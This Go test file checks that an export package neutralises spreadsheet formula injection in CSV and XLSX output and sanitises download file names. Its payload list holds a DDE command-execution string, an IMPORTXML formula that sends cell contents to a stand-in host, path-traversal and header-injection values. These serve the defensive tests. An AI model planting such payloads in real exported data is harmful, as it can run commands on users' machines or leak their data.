package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"loket/internal/export"
)

// payloads are texts that spreadsheet programs have run: every dangerous beginning,
// behind things that cannot be seen, and with what ends a field.
func payloads() (all []string) {
	for _, first := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
		all = append(all, first+"1+1", first+`cmd|' /C calc'!A0`, first+`HYPERLINK("http://x","y")`, first+`1";"=2`)
	}
	for _, before := range []string{" ", "  ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u2003"} {
		all = append(all, before+"=1+1", before+"@SUM(A1)")
	}
	return append(all, "-5", "+62812345678", `=IMPORTXML(CONCAT("http://x?",A1),"//a")`, "=\n1", "'=1+1", `","=1+1`, "\r\n=1+1", "=", "-")
}

// TestNoTextIsAFormula writes the payloads in every form and reads them back.
func TestNoTextIsAFormula(t *testing.T) {
	t.Parallel()
	all := payloads()
	if len(all) < 60 {
		t.Fatalf("%d payloads, want 60 at least", len(all))
	}
	write := func(form string) *bytes.Buffer {
		var b bytes.Buffer
		table, err := export.NewTable(&b, form, "Uji", []string{"teks", "angka"})
		for _, p := range all {
			if err == nil {
				err = table.Row(export.Text(p), export.Number(-5))
			}
		}
		if err == nil {
			err = table.Close()
		}
		if err != nil {
			t.Fatalf("%s: %v", form, err)
		}
		return &b
	}
	t.Run("CSV", func(t *testing.T) {
		t.Parallel()
		wantHarmless(t, write(export.CSV).String(), all)
	})
	t.Run("XLSX", func(t *testing.T) {
		t.Parallel()
		book, err := excelize.OpenReader(write(export.XLSX))
		if err != nil {
			t.Fatal(err)
		}
		for i, p := range all {
			at := fmt.Sprintf("A%d", i+2)
			kind, _ := book.GetCellType("Uji", at)
			formula, _ := book.GetCellFormula("Uji", at)
			got, err := book.GetCellValue("Uji", at)
			same := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace
			if err != nil || formula != "" || (kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString) || same(got) != same(p) {
				t.Errorf("%q came back as %q of type %v with formula %q, %v", p, got, kind, formula, err)
			}
		}
		if kind, _ := book.GetCellType("Uji", "B2"); kind != excelize.CellTypeNumber && kind != excelize.CellTypeUnset {
			t.Errorf("a number is of type %v", kind)
		}
	})
	t.Run("JSON", func(t *testing.T) {
		t.Parallel()
		var got []struct {
			Teks  string  `json:"teks"`
			Angka float64 `json:"angka"`
		}
		if err := json.Unmarshal(write(export.JSON).Bytes(), &got); err != nil || len(got) != len(all) {
			t.Fatalf("%d objects, %v, want %d", len(got), err, len(all))
		}
		for i, p := range all {
			if got[i].Teks != p || got[i].Angka != -5 {
				t.Errorf("%q came back as %+v", p, got[i])
			}
		}
	})
}

func wantHarmless(t *testing.T, text string, all []string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
	if err != nil || len(rows) != len(all)+1 {
		t.Fatalf("%d rows, %v, want %d", len(rows), err, len(all)+1)
	}
	for i, p := range all {
		got, n := rows[i+1][0], rows[i+1][1]
		if n != "-5" {
			t.Errorf("the number beside %q is %q, want it as it is", p, n)
		}
		if strings.HasPrefix(p, "'") || strings.HasPrefix(p, `"`) {
			continue // harmless as it is
		}
		if want := "'" + strings.ReplaceAll(p, "\r\n", "\n"); got != want {
			t.Errorf("%q became %q, want an apostrophe before it", p, got)
		}
	}
	for line := range strings.SplitSeq(text, "\r\n\"") {
		if !strings.HasSuffix(strings.TrimSuffix(line, "\r\n"), `"`) {
			t.Errorf("a line ends without a quote: %q", line)
		}
	}
}

func TestFileName(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"laporan": "laporan.csv", "../../etc/passwd": "etc-passwd.csv", `a"; filename="b`: "a-filename-b.csv", "a\r\nb": "a-b.csv",
		"": "loket.csv", "…": "loket.csv", strings.Repeat("x", 300): strings.Repeat("x", 100) + ".csv", "a/..\\b": "a-.-b.csv", "=1": "1.csv",
	} {
		if got := export.FileName("csv", in); got != want {
			t.Errorf("FileName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCells(t *testing.T) {
	t.Parallel()
	wita := time.FixedZone("WITA", 8*3600)
	at := time.Date(2026, 11, 16, 14, 5, 0, 0, wita)
	var b bytes.Buffer
	table, err := export.NewTable(&b, export.XLSX, "Uji", []string{"kapan", "n"})
	if err != nil {
		t.Fatal(err)
	}
	if err := table.Row(export.Moment(at), export.Cell{}); err != nil {
		t.Fatal(err)
	}
	if err := table.Close(); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := book.GetCellValue("Uji", "A2"); err != nil || got != "16-11-2026 14:05:00" {
		t.Errorf("a moment reads as %q, %v, want the clock on the wall", got, err)
	}
	if got, _ := book.GetCellValue("Uji", "B2"); got != "" {
		t.Errorf("nothing reads as %q", got)
	}
	if _, err := export.NewTable(io.Discard, "ods", "Uji", nil); err == nil {
		t.Error("an unknown form was taken")
	}
}

// BenchmarkMillionRows writes a million rows; -benchmem does not tell what was needed
// at once, so the most is measured and reported as MiB.
func BenchmarkMillionRows(b *testing.B) {
	for _, form := range []string{export.CSV, export.XLSX, export.JSON} {
		b.Run(form, func(b *testing.B) {
			for b.Loop() {
				b.ReportMetric(mostMemory(b, form, 1_000_000), "MiB")
			}
		})
	}
}
